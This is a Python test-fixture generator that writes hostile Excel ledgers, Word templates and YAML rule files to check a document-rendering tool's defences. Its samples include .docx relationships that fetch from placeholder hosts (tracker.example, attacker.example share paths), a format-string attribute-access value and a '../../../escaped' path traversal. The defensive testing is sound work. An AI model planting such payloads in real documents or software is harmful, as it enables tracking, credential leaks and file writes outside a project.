"""Hostile files for the render stage and the rulebook bounds (issue 19, points 3, 4, 5, 14, 18, 19).

    python tests/corpus/render.py OUT_DIR      # writes every file, prints their names

Each maker writes one file into a folder and returns its path, as in tests/corpus/generate.py:
ledgers go into ``inputs/``, Word templates into ``templates/`` (as ``proposal.docx``, the
template the bundled rules use for key accounts) and rule files into ``rules/`` (an extra
``hostile.yaml`` merged with the bundled rules, or ``documents.yaml`` rewritten in place for the
sections that are not merged). tests/test_hostile_render.py runs ``kamrules check``/``run`` on each.
"""

from __future__ import annotations

import datetime as dt
import io
import re
import sys
from pathlib import Path

import openpyxl

sys.path.insert(0, str(Path(__file__).parent))
from generate import _rewrite  # noqa: E402

CUSTOMER_HEADER = ["客户编号", "客户名称", "客户经理", "合作开始日期", "联系人", "联系人生日", "合同到期日"]
ORDER_HEADER = ["订单编号", "客户编号", "下单日期", "产品", "数量", "金额", "成本"]


def _customer(customer_id: str, name: str) -> list:
    return [customer_id, name, "张伟", dt.datetime(2020, 1, 15), "李娜", dt.datetime(1980, 11, 6),
            dt.datetime(2026, 12, 31)]


def _ledger(path: Path, customers: list[list], orders: list[list]) -> Path:
    """A ledger whose customers are key accounts (A tier, since 2020): each gets both documents,
    a visit plan, a birthday and a contract renewal in the calendar."""
    wb = openpyxl.Workbook()
    wb.remove(wb.active)
    for title, header, rows in (("客户档案", CUSTOMER_HEADER, customers), ("销售明细", ORDER_HEADER, orders)):
        sheet = wb.create_sheet(title)
        sheet.append(header)
        for row in rows:
            sheet.append(row)
    wb.save(path)
    return path


def _orders(customer_id: str, amount) -> list[list]:
    return [[f"SO-{customer_id}-1", customer_id, dt.datetime(2026, 10, 1), "钢材", 10, amount, 1_000],
            [f"SO-{customer_id}-2", customer_id, dt.datetime(2026, 3, 1), "钢材", 5, 2_000_000, 1_000]]


# --- ledgers (inputs/) --------------------------------------------------------------------

def huge_amount(folder: Path) -> Path:
    """Point 3: one order of 1e26 yuan (the money filter raised decimal.InvalidOperation from ~1e26)."""
    return _ledger(folder / "huge_amount.xlsx", [_customer("C001", "一号客户")], _orders("C001", 1e26))


def _space_id(folder: Path, name: str, space: str) -> Path:
    """Point 4: a customer id that is only a Unicode space, beside an ordinary customer."""
    return _ledger(folder / name, [_customer("C001", "一号客户"), _customer(space, "空白编号客户")],
                   _orders("C001", 3_000_000) + _orders(space, 3_000_000))


def em_space_id(folder: Path) -> Path:
    return _space_id(folder, "em_space_id.xlsx", "\u2003")


def line_separator_id(folder: Path) -> Path:
    return _space_id(folder, "line_separator_id.xlsx", "\u2028")


def control_character_cell(folder: Path) -> Path:
    """Point 5: an amount ``12\\x01`` (written as Excel escapes it, ``_x0001_``): a rejected cell whose
    value goes to the Data issues sheet and issues.xlsx."""
    orders = _orders("C001", 3_000_000) + [["SO-C001-3", "C001", dt.datetime(2026, 9, 1), "钢材", 1, "12_x0001_", 1]]
    return _ledger(folder / "control_character_cell.xlsx", [_customer("C001", "一号客户")], orders)


def control_character_name(folder: Path) -> Path:
    """Point 5: a key account named ``Name\\x01x``: its name is on the Reminders sheet (festival greetings)."""
    return _ledger(folder / "control_character_name.xlsx", [_customer("C001", "Name_x0001_x")],
                   _orders("C001", 3_000_000))


LEDGERS = [huge_amount, em_space_id, line_separator_id, control_character_cell, control_character_name]


# --- Word templates (templates/) ----------------------------------------------------------

def _docx(paragraphs: list[str]) -> bytes:
    from docx import Document  # python-docx, in the test extra

    document = Document()
    for text in paragraphs:
        document.add_paragraph(text)
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def _with_parts(data: bytes, change) -> bytes:
    """Copy a .docx, letting ``change(name, bytes)`` replace any part; extra parts from ``change.extra``."""
    return _rewrite(data, change, getattr(change, "extra", None))


def template_with(folder: Path, *tags: str, name: str = "proposal.docx") -> Path:
    """A template whose paragraphs are ``tags`` (each Jinja tag in one run, as Word keeps a tag typed at once)."""
    path = folder / name
    path.write_bytes(_docx(["{{ name }}", *tags]))
    return path


IMAGE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/image"
# Point 14: spellings of one external relationship that a regular expression over the XML misses;
# an XML parser reads every one as TargetMode="External" (and python-docx writes it back canonically).
REMOTE_PICTURES = {
    "single_quotes": f"<Relationship Id='rId99' Type='{IMAGE}' Target='http://tracker.example/pixel.png' "
                     "TargetMode='External'/>",
    "namespace_prefix": f'<pr:Relationship xmlns:pr="http://schemas.openxmlformats.org/package/2006/relationships" '
                        f'Id="rId99" Type="{IMAGE}" Target="http://tracker.example/pixel.png" TargetMode="External"/>',
    "character_reference": f'<Relationship Id="rId99" Type="{IMAGE}" Target="http://tracker.example/pixel.png" '
                           'TargetMode="&#69;xternal"/>',
    "spaces_around_equals": f'<Relationship Id="rId99" Type = "{IMAGE}" Target = "http://tracker.example/pixel.png" '
                            'TargetMode = "External"/>',
    "unc_share": f'<Relationship Id="rId99" Type="{IMAGE}" Target="file://attacker.example/share/x.png" '
                 'TargetMode="External"/>',
}


def remote_picture(folder: Path, spelling: str) -> Path:
    """A template with an external picture relationship in word/_rels/document.xml.rels."""
    relation = REMOTE_PICTURES[spelling].encode()

    def change(name, data):
        return data.replace(b"</Relationships>", relation + b"</Relationships>") \
            if name == "word/_rels/document.xml.rels" else data

    path = folder / "proposal.docx"
    path.write_bytes(_with_parts(_docx(["{{ name }}"]), change))
    return path


def remote_attached_template(folder: Path) -> Path:
    """A template whose settings attach a template on another machine (Word fetches it on open):
    a relationship in word/_rels/settings.xml.rels, a part the old check did not look at by type."""
    settings_rels = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
                     '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                     '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
                     'relationships/attachedTemplate" Target="file://attacker.example/share/normal.dotm" '
                     'TargetMode="External"/></Relationships>').encode()

    def change(name, data):
        return data

    change.extra = {"word/_rels/settings.xml.rels": settings_rels}
    path = folder / "proposal.docx"
    path.write_bytes(_with_parts(_docx(["{{ name }}"]), change))
    return path


def include_picture_field(folder: Path) -> Path:
    """A template with an INCLUDEPICTURE field (split over runs, as Word writes it) that fetches a URL."""
    def change(name, data):
        if name != "word/document.xml":
            return data
        field = ('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> INCLUDE'
                 '</w:instrText></w:r><w:r><w:instrText xml:space="preserve">PICTURE "http://tracker.example/p.png" \\d'
                 '</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>').encode()
        return re.sub(rb"(<w:body>)", lambda m: m.group(1) + field, data, count=1)

    path = folder / "proposal.docx"
    path.write_bytes(_with_parts(_docx(["{{ name }}"]), change))
    return path


# --- rule files (rules/) ------------------------------------------------------------------

def _decision(when: str) -> str:
    return ("kamrules: 1\ndecisions:\n  hostile:\n    title: Hostile\n    hit: first\n"
            "    outputs: {hostile_flag: bool}\n    rules:\n      - id: H1\n"
            f"        when: \"{when}\"\n        then: {{hostile_flag: true}}\n    default: {{hostile_flag: false}}\n")


def _document(**settings) -> str:
    lines = ["kamrules: 1", "documents:", "  - id: hostile", "    template: proposal.docx", "    for: key_account"]
    lines += [f"    {key}: {value}" for key, value in settings.items()]
    return "\n".join(lines) + "\n"


def _hostile_rules(folder: Path, text: str) -> Path:
    path = folder / "hostile.yaml"
    path.write_text(text, encoding="utf-8")
    return path


def round_to_a_billion_places(folder: Path) -> Path:
    """round(x, -1000000000): 10**1000000000 — ``run`` never finished."""
    return _hostile_rules(folder, _decision("round(revenue_12m, -1000000000) > 0"))


def round_to_a_float(folder: Path) -> Path:
    """round(x, 1e18): ``check`` accepted it, ``run`` refused it."""
    return _hostile_rules(folder, _decision("round(revenue_12m, 1e18) > 0"))


def add_months_beyond_the_calendar(folder: Path) -> Path:
    """add_months(d, 999999999999): a Polars error at ``run``."""
    return _hostile_rules(folder, _decision("add_months(as_of, 999999999999) > as_of"))


def validity_beyond_the_calendar(folder: Path) -> Path:
    """validity_days: 999999999: as_of + 999999999 days overflowed (a traceback)."""
    return _hostile_rules(folder, _document(validity_days=999999999))


def five_thousand_digits(folder: Path) -> Path:
    """A 5,000-digit integer: Python's own conversion error stopped ``check`` with a traceback."""
    return _hostile_rules(folder, _document(validity_days="1" * 5000))


def filename_width(folder: Path) -> Path:
    """A file-name pattern with a format width: str.format built a 900 MB name."""
    return _hostile_rules(folder, _document(filename='"{customer_id:>900000000}.docx"'))


def filename_attribute(folder: Path) -> Path:
    """A file-name pattern with attribute access: str.format reached the class of the value."""
    return _hostile_rules(folder, _document(filename='"{name.__class__.__mro__}.docx"'))


def folder_outside_the_run(folder: Path) -> Path:
    """A documents folder with ``..``: documents were written outside the project."""
    return _hostile_rules(folder, _document(folder='"../../../escaped"'))


def alert_title_with_slash(folder: Path) -> Path:
    """An alert (a sheet of the portfolio) titled ``信用/预警[1]``: openpyxl refused the sheet title."""
    path = folder / "documents.yaml"
    text = path.read_text(encoding="utf-8")
    path.write_text(text.replace("    信用预警: credit_status", "    信用/预警[1]: credit_status", 1), encoding="utf-8")
    return path


def _rewrite_documents(folder: Path, old: str, new: str) -> Path:
    path = folder / "documents.yaml"
    text = path.read_text(encoding="utf-8")
    assert old in text, old
    path.write_text(text.replace(old, new, 1), encoding="utf-8")
    return path


def visit_interval_of_text(folder: Path) -> Path:
    """visit_plan.every_days naming a text field: Polars refused to compare days with it (a traceback)."""
    return _rewrite_documents(folder, "every_days: visit_interval_days", "every_days: tier")


def exposure_of_text(folder: Path) -> Path:
    """portfolio.exposure_field naming a text field: Polars refused to sum it (a traceback)."""
    return _rewrite_documents(folder, "portfolio:\n", "portfolio:\n  exposure_field: tier\n")


RULES = [round_to_a_billion_places, round_to_a_float, add_months_beyond_the_calendar, validity_beyond_the_calendar,
         five_thousand_digits, filename_width, filename_attribute, folder_outside_the_run]
DOCUMENTS_YAML = [alert_title_with_slash, visit_interval_of_text, exposure_of_text]  # rewrite rules/documents.yaml


def main(argv: list[str]) -> None:
    out = Path(argv[0] if argv else "corpus-render")
    makers = [(f"inputs/{m.__name__}", m) for m in LEDGERS]
    makers += [(f"templates/{s}", lambda folder, s=s: remote_picture(folder, s)) for s in REMOTE_PICTURES]
    makers += [(f"templates/{m.__name__}", m) for m in (remote_attached_template, include_picture_field)]
    makers += [(f"rules/{m.__name__}", m) for m in RULES]
    for sub, maker in makers:
        (out / sub).mkdir(parents=True, exist_ok=True)
        print(maker(out / sub))
    bundled = Path(__file__).resolve().parents[2] / "rules" / "documents.yaml"
    for maker in DOCUMENTS_YAML:
        (out / "rules" / maker.__name__).mkdir(parents=True, exist_ok=True)
        (out / "rules" / maker.__name__ / "documents.yaml").write_bytes(bundled.read_bytes())
        print(maker(out / "rules" / maker.__name__))


if __name__ == "__main__":
    main(sys.argv[1:])
